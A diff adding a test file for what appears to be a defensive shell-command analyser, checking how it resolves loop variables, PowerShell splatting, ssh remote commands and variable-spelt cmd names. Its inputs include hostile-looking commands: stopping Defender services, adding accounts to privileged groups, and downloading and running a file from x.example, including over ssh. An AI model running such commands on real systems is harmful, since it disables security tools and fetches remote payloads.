@@ -1,0 +1,105 @@
+/**
+ * Values that real scripts pass around rather than write inline: loop variables, PowerShell
+ * splatting, the command an ssh session runs remotely, and a cmd name spelt by variables. The
+ * analysis must give rules the values the commands actually receive.
+ */
+import { describe, expect, it } from 'vitest';
+import { analyse } from './analyse';
+import type { Document, SimpleCommand } from './document';
+import type { Shell } from '../types';
+
+const doc = (text: string, shell: Shell) => analyse(text, shell, shell === 'cmd' || shell === 'powershell' ? 'windows' : 'linux');
+const command = (d: Document, name: string): SimpleCommand | undefined => d.commands.find((c) => c.name === name);
+const words = (d: Document, name: string) => command(d, name)?.words.map((w) => w.value);
+
+describe('loop variables stand for the items of their list', () => {
+  it('PowerShell foreach over a list variable', () => {
+    const d = doc("$svcs = 'Sense','WdNisSvc'\nforeach ($s in $svcs) { Stop-Service -Name $s -Force }", 'powershell');
+    expect(words(d, 'stop-service')).toEqual(['Stop-Service', '-Name', 'Sense,WdNisSvc', '-Force']);
+  });
+
+  it('PowerShell foreach over a written list, and $_ of ForEach-Object over piped constants', () => {
+    expect(
+      words(doc("foreach ($g in 'SG-Finance', 'SG-VPN') { Add-ADGroupMember -Identity $g -Members x }", 'powershell'), 'add-adgroupmember'),
+    ).toContain('SG-Finance,SG-VPN');
+    expect(words(doc("'Sense','WinDefend' | ForEach-Object { Stop-Service $_ }", 'powershell'), 'stop-service')).toEqual([
+      'Stop-Service',
+      'Sense,WinDefend',
+    ]);
+    expect(words(doc("'Sense' | % { Stop-Service $PSItem }", 'powershell'), 'stop-service')).toEqual(['Stop-Service', 'Sense']);
+  });
+
+  it('leaves the variable unknown when the items are not known, and $_ unbound outside the block', () => {
+    const d = doc('foreach ($s in (Get-Service)) { Stop-Service $s }\nGet-Service | % { $_.Name }\nWrite-Output $_', 'powershell');
+    expect(words(d, 'stop-service')).toEqual(['Stop-Service', '$s']);
+    expect(words(d, 'write-output')).toEqual(['Write-Output', '$_']);
+  });
+
+  it('POSIX for loops: one word per expansion, every item in it', () => {
+    const d = doc('for h in esx01 esx02; do ping -c1 root@$h; done', 'bash');
+    expect(words(d, 'ping')).toEqual(['ping', '-c1', 'root@esx01,esx02']);
+    expect(words(doc('for f in $(ls /tmp); do bash $f; done', 'bash'), 'bash')).toEqual(['bash', '$f']);
+  });
+
+  it('keeps a huge list bounded', () => {
+    const items = Array.from({ length: 5000 }, (_, i) => `host${i}`).join(' ');
+    const value = words(doc(`for h in ${items}; do ping $h; done`, 'bash'), 'ping')?.[1] ?? '';
+    expect(value.length).toBeLessThanOrEqual(1024);
+    expect(value.startsWith('host0,host1,')).toBe(true);
+  });
+});
+
+describe('PowerShell splatting: @params stands as the parameters its hashtable holds', () => {
+  it('expands a hashtable into -Key value words, a $true switch into the switch', () => {
+    const text =
+      "$p = @{\n  Uri = 'https://x.example/a.exe'\n  OutFile = 'C:\\t\\a.exe'\n  UseBasicParsing = $true\n}\nInvoke-WebRequest @p";
+    const d = doc(text, 'powershell');
+    expect(words(d, 'invoke-webrequest')).toEqual([
+      'Invoke-WebRequest',
+      '-Uri',
+      'https://x.example/a.exe',
+      '-OutFile',
+      'C:\\t\\a.exe',
+      '-UseBasicParsing',
+    ]);
+    // The words point at the hashtable's lines, where the values are written.
+    const uri = command(d, 'invoke-webrequest')!.words[2]!;
+    expect(text.slice(uri.span.start, uri.span.end)).toBe("'https://x.example/a.exe'");
+  });
+
+  it('splats into a call by & too, and forgets a hashtable once the variable is reassigned', () => {
+    expect(words(doc("$a = @{ FilePath = 'msiexec.exe' }\n& Start-Process @a", 'powershell'), 'start-process')).toEqual([
+      'Start-Process',
+      '-FilePath',
+      'msiexec.exe',
+    ]);
+    expect(words(doc("$a = @{ FilePath = 'x.exe' }\n$a = 'other'\nStart-Process @a", 'powershell'), 'start-process')).toEqual([
+      'Start-Process',
+      '@a',
+    ]);
+  });
+});
+
+describe('ssh: the command run on the remote host is analysed as a shell line', () => {
+  it('after the destination and the options that take values', () => {
+    const d = doc(
+      'ssh -p 2222 -i ~/.ssh/id -o StrictHostKeyChecking=no root@esx01 "cd /tmp && wget -q http://x.example/e -O e && ./e"',
+      'bash',
+    );
+    expect(d.commands.map((c) => c.name)).toEqual(['ssh', 'cd', 'wget', 'e']);
+    expect(d.layers.filter((l) => l.depth === 1).map((l) => l.shell)).toEqual(['sh']);
+  });
+
+  it('a plain login or a forward has no remote command', () => {
+    expect(doc('ssh -L 8080:localhost:80 -N jump', 'bash').layers).toHaveLength(1);
+    expect(doc('ssh admin@db01', 'bash').layers).toHaveLength(1);
+  });
+});
+
+describe('cmd: a name spelt partly by variables is obfuscated', () => {
+  it('marks the word where an expansion meets letters, not where a path separator stands', () => {
+    const spelt = doc('cmd /c "set a=pow&& set b=ershell&& call %a%%b% -c whoami"', 'cmd');
+    expect(command(spelt, 'powershell')?.words[0]?.obfuscated).toBe(true);
+    expect(command(doc('"%ProgramFiles%\\App\\app.exe" /q', 'cmd'), 'app')?.words[0]?.obfuscated).toBeFalsy();
+  });
+});
